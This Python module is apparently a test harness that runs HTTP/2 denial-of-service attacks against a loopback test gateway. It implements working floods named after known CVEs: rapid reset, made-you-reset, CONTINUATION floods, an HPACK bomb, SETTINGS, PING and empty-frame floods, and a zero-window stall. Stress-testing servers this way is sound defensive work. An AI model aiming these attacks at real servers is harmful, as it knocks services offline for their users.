"""Attackers of HTTP/2, each a program of its own: `python -m support.http2_attacks NAME PORT SECONDS`.

Only ever against a gateway of the test on loopback. Prints what it did as JSON: connections opened, of these closed by the
other side, frames sent.
"""

from __future__ import annotations

import contextlib
import json
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

from support.bare_gateway import API_KEY
from support.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    frame,
)

GET = [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/v1/things/1"), ("x-api-key", API_KEY)]
POST = [(":method", "POST"), *GET[1:]]
BATCH = 50
STALLED_CONNECTIONS = 4
STREAMS = 100
BOMB_VALUE_BYTES = 4000
BOMB_REFERENCES = 16_000

# What an attacker sends: for one connection, batches of frames, until it is closed or time is up.
Batches = Iterator[list[bytes]]
Attack = Callable[[Connection], Batches]


def rapid_reset(connection: Connection) -> Batches:
    """Ask and cancel at once (CVE-2023-44487)."""
    while True:
        batch = []
        for _ in range(BATCH):
            stream = connection.new_stream()
            batch.append(connection.headers(stream, GET, end=True))
            batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
        yield batch


def made_you_reset(connection: Connection) -> Batches:
    """Ask, then break the protocol on the stream, so that the server cancels (CVE-2025-8671)."""
    while True:
        batch = []
        for _ in range(BATCH):
            stream = connection.new_stream()
            batch.append(connection.headers(stream, GET, end=True))
            batch.append(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))
        yield batch


def continuation_flood(connection: Connection) -> Batches:
    """Begin a block of headers and never end it (CVE-2024-27316 and kin)."""
    stream = connection.new_stream()
    yield [frame(HEADERS, END_STREAM, stream, connection.block(GET))]
    literal = b"\x00\x07x-flood\x7f\x81\x7f" + b"a" * 16_000  # a literal field that is not indexed
    while True:
        yield [frame(CONTINUATION, 0, stream, literal[:16_000])] * 4


def empty_continuation_flood(connection: Connection) -> Batches:
    """The same with frames of nothing."""
    stream = connection.new_stream()
    yield [frame(HEADERS, END_STREAM, stream, connection.block(GET))]
    while True:
        yield [frame(CONTINUATION, 0, stream)] * BATCH


def hpack_bomb(connection: Connection) -> Batches:
    """Put a large field into the table once, and name it by one byte thousands of times (CVE-2016-6581)."""
    value = b"b" * BOMB_VALUE_BYTES
    name = b"x-bomb"
    # Literal with incremental indexing; the length is a prefixed integer of seven bits (RFC 7541, section 5.1).
    rest = BOMB_VALUE_BYTES - 127
    insert = b"\x40" + bytes([len(name)]) + name + b"\x7f" + bytes([rest % 128 + 128, rest // 128]) + value
    plain = connection.block(GET)
    yield [frame(HEADERS, END_HEADERS | END_STREAM, connection.new_stream(), plain + insert)]
    newest = b"\xbe"  # index 62: the newest of the dynamic table
    while True:
        yield [
            frame(HEADERS, END_HEADERS | END_STREAM, connection.new_stream(), plain + newest * BOMB_REFERENCES)
            for _ in range(4)
        ]


def settings_flood(_: Connection) -> Batches:
    """Make the other side acknowledge settings for ever."""
    while True:
        yield [frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))] * BATCH


def ping_flood(_: Connection) -> Batches:
    """Make the other side answer pings for ever."""
    while True:
        yield [frame(PING, 0, 0, b"12345678")] * BATCH


def empty_frames(connection: Connection) -> Batches:
    """Send a body of nothing for ever (CVE-2019-9518)."""
    stream = connection.new_stream()
    yield [connection.headers(stream, POST, end=False)]
    while True:
        yield [frame(DATA, 0, stream)] * BATCH


FLOODS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        made_you_reset,
        continuation_flood,
        empty_continuation_flood,
        hpack_bomb,
        settings_flood,
        ping_flood,
        empty_frames,
    )
}


def flood(attack: Attack, port: int, ends: float) -> dict[str, int]:
    """Attack on one connection after the other."""
    done = {"connections": 0, "closed": 0, "frames": 0}
    while time.monotonic() < ends:
        with Connection.plain(port, seconds=5.0) as connection:
            done["connections"] += 1
            for batch in attack(connection):
                connection.send(b"".join(batch))
                done["frames"] += len(batch)
                # Never read more than is there: an attacker doesn't wait for answers.
                _drain(connection)
                if connection.closed or time.monotonic() > ends:
                    break
            done["closed"] += connection.closed
    return done


def _drain(connection: Connection) -> None:
    connection.socket.settimeout(0.0)
    try:
        while not connection.closed:
            connection.closed = not connection.socket.recv(262_144)
    except BlockingIOError:
        pass
    except OSError:
        connection.closed = True
    finally:
        connection.socket.settimeout(5.0)


def zero_window(port: int, ends: float) -> dict[str, int]:
    """Ask for large answers on every stream, and never open a window."""
    connections = []
    for _ in range(STALLED_CONNECTIONS):
        connected = socket.create_connection(("127.0.0.1", port), timeout=5.0)
        connection = Connection(connected, settings={INITIAL_WINDOW_SIZE: 1})
        connection.opens_windows = False
        asked = [connection.headers(connection.new_stream(), GET, end=True) for _ in range(STREAMS)]
        connection.send(b"".join(asked))
        connections.append(connection)
    while time.monotonic() < ends and not all(connection.closed for connection in connections):
        for connection in connections:
            # It answers pings: nothing but its windows gives it away.
            connection.socket.settimeout(0.1)
            with contextlib.suppress(TimeoutError):
                connection.read()
    closed = sum(connection.closed for connection in connections)
    return {"connections": len(connections), "closed": closed, "frames": len(connections) * STREAMS}


def main(name: str, port: str, seconds: str) -> None:
    """Attack, and tell what was done."""
    ends = time.monotonic() + float(seconds)
    done = zero_window(int(port), ends) if name == "zero_window" else flood(FLOODS[name], int(port), ends)
    sys.stdout.write(json.dumps(done) + "\n")


if __name__ == "__main__":
    main(*sys.argv[1:])
